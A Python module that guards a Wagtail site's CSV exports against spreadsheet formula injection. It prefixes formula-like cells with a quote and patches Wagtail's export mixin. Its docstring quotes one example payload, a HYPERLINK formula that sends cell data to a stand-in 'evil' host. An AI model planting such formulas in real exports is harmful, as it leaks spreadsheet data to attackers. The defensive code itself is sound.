"""Spreadsheet cells that stay text: every CSV export writes its cells through `cell_neutralise`.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and, after
trimming, tab or carriage return) as a formula, so a page title or a question such as
`=HYPERLINK("http://evil/?"&A1)` in an export runs when an editor opens it (OWASP "CSV Injection"). A
leading `'` makes the application show the text as typed; numbers are left alone, so negative figures stay
numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def cell_neutralise(value: Any) -> Any:
    """`value`, with a `'` in front when it is text a spreadsheet would evaluate as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def row_neutralise(values: Iterable[Any]) -> list[Any]:
    return [cell_neutralise(value) for value in values]


def wagtail_csv_exports_neutralise() -> None:
    """Every CSV export of Wagtail's admin (Site history, page and snippet listings, form submissions: all
    built on `SpreadsheetExportMixin`) writes its cells through `cell_neutralise`, like ours.

    A patch of the one method every CSV row goes through, applied once at start-up: Wagtail offers no
    setting or hook for it, and subclassing would mean replacing each of its views' URLs. XLSX exports need
    nothing: Wagtail already types formula-looking cells as text there."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "_cells_neutralised", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value

    def preprocess_field_value(self: Any, field: str, value: Any, export_format: str) -> Any:
        value = preprocess(self, field, value, export_format)
        return cell_neutralise(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value  # type: ignore[method-assign]
    SpreadsheetExportMixin._cells_neutralised = True  # type: ignore[attr-defined]
